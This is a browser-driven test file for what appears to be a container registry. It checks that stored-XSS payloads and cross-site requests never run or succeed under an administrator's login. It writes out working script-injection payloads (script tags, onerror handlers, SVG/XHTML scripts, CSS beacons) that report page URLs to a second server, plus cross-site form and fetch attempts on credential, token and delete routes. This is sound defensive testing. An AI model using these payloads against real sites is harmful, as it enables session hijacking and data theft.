import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import pg from 'pg'
import {
  type Browser,
  type BrowserContext,
  chromium,
  type Page,
  type Request,
} from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { pathOfRoute, ROUTES } from '../attacks/route-paths.ts'
import { clientPath, hasClient } from '../clients/client-sandbox.ts'
import { KERNEL, net, pushLayers, UNIKERNEL } from '../images/image-fixtures.ts'
import { digestOf } from '../support/digest.ts'
import { newRepository, pushBlob, pushImage } from '../support/push.ts'
import { startRegistry, type TestRegistry } from '../support/registry.ts'
import { BROWSER_OPTIONS } from './browser-options.ts'

const MEDIA_TYPES = [
  ...['text/html', 'text/plain', 'text/xml', 'text/css', 'text/javascript', 'image/svg+xml'],
  ...['application/xhtml+xml', 'application/xml', 'application/javascript', 'application/pdf'],
  ...['multipart/related', 'message/rfc822', 'application/vnd.example', 'application/json'],
  ...['application/vnd.example+json', 'application/octet-stream'],
]
const FORMATS = ['cyclonedx', 'spdx', 'slsa']
const UNIKERNEL_FILE = 'application/vnd.unikernel'
const NAVIGATION_MILLISECONDS_MAX = 10_000
const SETTLING_MILLISECONDS = 200

let registry: TestRegistry
let otherSite: Server
let other: string
let browser: Browser
/** Requests of scripts that ran. */
let ran: string[] = []

const PAGES = ['html', 'svg', 'xhtml'] as const
const PARTS = {
  html: (url: string) => `<iframe src="${url}"></iframe><object data="${url}"></object>`,
  svg: (url: string) => `<iframe src="${url}"></iframe><embed src="${url}">`,
  xhtml: (url: string) => `<iframe src="${url}"></iframe>`,
  script: (url: string) =>
    `<script src="${url}"></script><script type=module src="${url}"></script>`,
  style: (url: string) => `<link rel=stylesheet href="${url}">`,
}
type Payload = keyof typeof PARTS

/** Returns texts that report to the other site when a browser runs them. */
function payloads(): Record<Payload, string> {
  const report = `${other}/ran`
  const call = `(new Image).src='${report}?'+encodeURIComponent(location.href)`
  const xhtml = 'xmlns="http://www.w3.org/1999/xhtml"'
  return {
    html: `<!doctype html><body><script>${call}</script><img src=x onerror="${call}">`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg"><script>${call}</script></svg>`,
    xhtml: `<?xml version="1.0"?><html ${xhtml}><body><script>${call}</script></body></html>`,
    script: `fetch('${report}',{mode:'no-cors'})`,
    style: `*{background:url(${report})}`,
  }
}

beforeAll(async () => {
  if (!hasClient('chromium')) return
  registry = await startRegistry()
  otherSite = createServer((req, res) => {
    if (req.url?.startsWith('/ran')) ran.push(req.url)
    res.setHeader('content-type', 'text/html').end('<!doctype html><title>another site</title>')
  }).listen(0, '127.0.0.1')
  await once(otherSite, 'listening')
  // Another name of the same machine is another site.
  other = `http://localhost:${(otherSite.address() as AddressInfo).port}`
  const executablePath = clientPath('chromium')
  browser = await chromium.launch({ executablePath, args: BROWSER_OPTIONS })
})

afterAll(async () => {
  await browser?.close()
  otherSite?.close()
  await registry?.close()
})

/** Runs `work` in a browser that sends the administrator's login with every request. */
async function withLogin(work: (page: Page, context: BrowserContext) => Promise<void>) {
  const login = Buffer.from(`admin:${registry.password}`).toString('base64')
  const context = await browser.newContext({
    extraHTTPHeaders: { authorization: `Basic ${login}` },
  })
  const page = await context.newPage()
  page.setDefaultTimeout(NAVIGATION_MILLISECONDS_MAX)
  ran = []
  try {
    await work(page, context)
  } finally {
    await context.close()
  }
}

/** Opens a URL as a link does. A file that the browser saves is no page. */
async function open(page: Page, url: string): Promise<void> {
  await page.goto(url).catch((error: Error) => {
    if (!/Download is starting|ERR_ABORTED|ERR_INVALID_RESPONSE/.test(error.message)) throw error
  })
}

/** Stores the text as manifests of all media types and as blobs, and returns their paths. */
async function store(text: string): Promise<string[]> {
  const repository = newRepository()
  const { digest } = await pushBlob(registry, repository, Buffer.from(text))
  const paths = [`/v2/${repository}/blobs/${digest}`]
  for (const [index] of MEDIA_TYPES.entries()) {
    const path = `/v2/${repository}/manifests/m${index}`
    const put = await registry.request(path, {
      method: 'PUT',
      headers: { 'content-type': `application/vnd.test.m${index}` },
      // The digest of each differs, because a manifest has one media type.
      body: `${text}${' '.repeat(index)}`,
    })
    expect(put.status).toBe(201)
    paths.push(path)
  }
  return paths
}

/** Stores the text wherever the API reads or lists texts of a tenant, and returns a path of every GET route to it. */
async function storeEverywhere(text: string): Promise<string[]> {
  const repository = newRepository()
  const line = Buffer.from(`A=${text}\n`)
  const answer = await pushLayers(
    registry,
    repository,
    'v1',
    [
      {
        mediaType: `${UNIKERNEL_FILE}.build-environment.v1`,
        bytes: line,
        title: 'environment.html',
      },
      { mediaType: `${UNIKERNEL_FILE}.system-packages.v1`, bytes: line, title: 'packages.svg' },
      { mediaType: KERNEL, bytes: net, title: 'kernel.html' },
    ],
    { ...UNIKERNEL, annotations: { 'org.opencontainers.image.description': text } },
  )
  expect(answer.status).toBe(201)
  const digest = answer.headers.get('docker-content-digest') ?? ''
  const made = await registry.request('/api/v1/webhooks', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      name: 'page',
      url: `https://example.org/?${encodeURIComponent(text)}`,
      repositories: [repository],
    }),
  })
  expect(made.status).toBe(201)
  const values = { reference: 'v1', other: 'v1', tag: 'v1', name: 'page', digest }
  return ROUTES.filter(({ method }) => method === 'GET').flatMap(({ path }) =>
    FORMATS.map((format) => pathOfRoute(path, repository, { ...values, format })).filter(
      (one, index, all) => all.indexOf(one) === index,
    ),
  )
}

/** Gives the stored manifests the media types that an earlier release accepted. */
async function restoreMediaTypes(): Promise<void> {
  const db = new pg.Client(registry.databaseUrl)
  await db.connect()
  for (const [index, type] of MEDIA_TYPES.entries()) {
    const update = 'update manifests set media_type = $1 where media_type = $2'
    await db.query(update, [type, `application/vnd.test.m${index}`])
  }
  await db.end()
}

describe.skipIf(!hasClient('chromium'))('in a real browser with an administrator’s login', () => {
  const stored = new Map<Payload, string[]>()
  let others: string[] = []
  let ofEveryRoute: string[] = []

  beforeAll(async () => {
    const texts = payloads()
    for (const payload of ['html', 'svg', 'xhtml', 'script', 'style'] as const) {
      stored.set(payload, await store(texts[payload]))
    }
    await restoreMediaTypes()
    ofEveryRoute = await storeEverywhere(texts.html)
    const repository = newRepository()
    const { digest } = await pushImage(registry, repository, 'v1')
    const annotations = { 'org.opencontainers.image.title': texts.html, [texts.html]: texts.html }
    const subject = { mediaType: 'application/vnd.oci.image.manifest.v1+json', digest, size: 1 }
    await pushImage(registry, repository, 'signature', { subject, annotations })
    const name = encodeURIComponent(texts.html)
    others = [
      `/v2/${repository}/referrers/${digest}`,
      `/v2/${repository}/manifests/signature`,
      `/v2/${name}/tags/list`,
      `/api/v1/packages/opam/${name}`,
      `/${name}`,
    ]
  })

  it('the browser runs scripts, so that the tests below can fail', async () => {
    await withLogin(async (page) => {
      await page.route('**/page', (route) =>
        route.fulfill({ contentType: 'text/html', body: payloads().html }),
      )
      await page.goto(`${other}/page`)
      await expect.poll(() => ran.length).toBeGreaterThan(0)
    })
  })

  it('nothing that is stored runs when its link is opened', async () => {
    await withLogin(async (page) => {
      const pages = PAGES.flatMap((payload) => stored.get(payload) ?? [])
      for (const path of [...pages, ...others]) await open(page, `${registry.url}${path}`)
      await page.waitForTimeout(SETTLING_MILLISECONDS)
    })
    expect(ran).toEqual([])
  })

  it('nor what any other route answers, documents and event streams included', async () => {
    const statuses: number[] = []
    await withLogin(async (page) => {
      page.on('response', (answer) => statuses.push(answer.status()))
      for (const path of ofEveryRoute) await open(page, `${registry.url}${path}`)
      await page.setExtraHTTPHeaders({ accept: 'text/event-stream' })
      await page.goto(`${registry.url}/api/v1/events?snapshot=1`, { waitUntil: 'commit' })
      await page.waitForTimeout(SETTLING_MILLISECONDS)
    })
    expect(ran).toEqual([])
    expect(statuses.filter((status) => status === 200).length).toBeGreaterThan(20)
  })

  it.each(['the registry', 'another site'])('nor as a part of a page of %s', async (whose) => {
    await withLogin(async (page) => {
      const base = whose === 'the registry' ? registry.url : other
      const parts = [...stored].flatMap(([payload, paths]) =>
        paths.map((path) => PARTS[payload](`${registry.url}${path}`)),
      )
      const open = new Set([...stored].flatMap(([, paths]) => paths))
      const ended = (request: Request) => open.delete(new URL(request.url()).pathname)
      page.on('requestfinished', ended)
      page.on('requestfailed', ended)
      await page.route('**/page', (route) =>
        route.fulfill({ contentType: 'text/html', body: `<body>${parts.join('')}` }),
      )
      await page.goto(`${base}/page`, { waitUntil: 'commit' })
      // A page whose frames are refused or saved may never be "loaded".
      await expect.poll(() => [...open]).toEqual([])
      await page.waitForTimeout(SETTLING_MILLISECONDS)
    })
    expect(ran).toEqual([])
  })

  it('and no service worker can be registered from it', async () => {
    await withLogin(async (page) => {
      await page.route('**/page', (route) => route.fulfill({ contentType: 'text/html', body: '' }))
      await page.goto(`${registry.url}/page`)
      const scripts = stored.get('script') ?? []
      const registered = await page.evaluate<string[]>(
        `Promise.all(${JSON.stringify(scripts)}.map((script) =>
          navigator.serviceWorker.register(script).then(() => script, () => '')))`,
      )
      expect(registered).toEqual(scripts.map(() => ''))
    })
  })
})

describe.skipIf(!hasClient('chromium'))('a page of another site', () => {
  it('can send no form to any route', async () => {
    const rows = ROUTES.filter(({ method }) => method === 'POST')
    expect(rows.length).toBeGreaterThan(5)
    const forms = rows.flatMap(({ path }) =>
      ['text/plain', 'multipart/form-data'].map((enctype, index) => ({
        method: 'POST',
        enctype,
        action: `${registry.url}${pathOfRoute(path, 'a/b')}?form=${index}`,
      })),
    )
    const statuses = new Map<string, number>()
    await withLogin(async (page) => {
      page.on('response', (one) => statuses.set(one.url(), one.status()))
      await page.goto(other)
      await page.evaluate(
        `${JSON.stringify(forms)}.forEach((fields, index) => {
          const frame = Object.assign(document.createElement('iframe'), { name: 'frame' + index })
          const form = Object.assign(document.createElement('form'), fields, { target: frame.name })
          document.body.append(frame, form)
          form.submit()
        })`,
      )
      await expect.poll(() => forms.filter(({ action }) => !statuses.has(action))).toEqual([])
    })
    for (const { action } of forms) expect(statuses.get(action), action).toBe(403)
  })

  it('can send no other request, and get no token', async () => {
    const repository = newRepository()
    const { digest } = await pushImage(registry, repository, 'live')
    const manifest = `/v2/${repository}/manifests/live`
    await withLogin(async (page) => {
      await page.goto(other)
      for (const [method, path] of [
        ['PUT', manifest],
        ['DELETE', manifest],
        ['DELETE', `/v2/${repository}/manifests/${digest}`],
        ['PATCH', '/api/v1/webhooks/a'],
        ['GET', '/token?offline_token=true'],
        ['GET', '/api/v1/credentials'],
      ] as const) {
        const read = await page.evaluate(
          ([url = '', verb = '']) =>
            fetch(url, { method: verb, credentials: 'include' }).then(
              (answer) => answer.text(),
              () => 'blocked',
            ),
          [`${registry.url}${path}`, method],
        )
        expect(read, `${method} ${path}`).toBe('blocked')
      }
    })
    const live = await registry.anonymous(manifest)
    expect(live.headers.get('docker-content-digest')).toBe(digest)
    expect(digestOf(await live.text())).toBe(digest)
  })

  it('finds no remembered login, because the browser is never asked for one', async () => {
    const credentials = { username: 'admin', password: registry.password }
    const context = await browser.newContext({ httpCredentials: credentials })
    const page = await context.newPage()
    for (const path of ['/api/v1/credentials', '/metrics', '/v2/', '/api/v1/webhooks']) {
      const answer = await page.goto(`${registry.url}${path}`)
      expect(answer?.status(), path).toBe(401)
    }
    await context.close()
  })
})
